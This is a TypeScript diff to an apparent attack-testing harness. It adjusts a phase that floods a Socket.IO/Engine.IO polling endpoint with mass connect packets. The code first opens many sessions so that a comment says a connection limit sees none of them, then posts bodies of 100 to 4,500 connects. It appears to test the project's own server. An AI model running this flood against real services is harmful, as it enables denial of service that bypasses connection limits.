@@ -11,8 +11,8 @@ import type { Attack, Phase } from '../phase.ts';
 const POLLING = '/socket.io/?EIO=4&transport=polling';
 /** The separator of packets in a body (Engine.IO 4). */
 const RECORD_SEPARATOR = '\u001E';
-/** As many as go into the 100 kB that a body may have. */
-const CONNECTS_IN_BODY = 4_500;
+/** As many as went into the 100 kB that a body might have once, and what a smaller one holds. */
+const CONNECTS_IN_BODY = [4_500, 2_000, 100];
 const MOST_BODIES = 300;
 const OPENED_FIRST = 230;
 
@@ -30,18 +30,21 @@ const connectPackets: Phase = {
   async run(attack) {
     const address = '10.1.0.1';
     const { callId } = await attack.target.makeSpace('Kollegan');
-    const body = Array.from({ length: CONNECTS_IN_BODY }, () => `40{"protocol":${PROTOCOL}}`).join(
-      RECORD_SEPARATOR,
-    );
-    const post = (sid: string) =>
-      fetchAs(attack, address, `${POLLING}&sid=${sid}`, { method: 'POST', body });
+    const bodyOf = (connects: number) =>
+      Array.from({ length: connects }, () => `40{"protocol":${PROTOCOL}}`).join(RECORD_SEPARATOR);
+    const bodies = CONNECTS_IN_BODY.map(bodyOf);
+    const post = (sid: string, index: number) =>
+      fetchAs(attack, address, `${POLLING}&sid=${sid}`, {
+        method: 'POST',
+        body: bodies[index % bodies.length] ?? '',
+      });
     const flood = async () => {
-      for (let bodies = 0; bodies < MOST_BODIES && isTime(attack);) {
+      for (let posted = 0; posted < MOST_BODIES && isTime(attack);) {
         // All of them opened before the first is used: a limit on what is connected sees none of them.
         const opening = Array.from({ length: OPENED_FIRST }, () => openPolling(attack, address));
         const sids = (await Promise.all(opening)).filter((sid) => sid !== undefined);
         await Promise.all(sids.map(post));
-        bodies += sids.length;
+        posted += sids.length;
         if (sids.length < OPENED_FIRST) await pause(1_000);
       }
     };
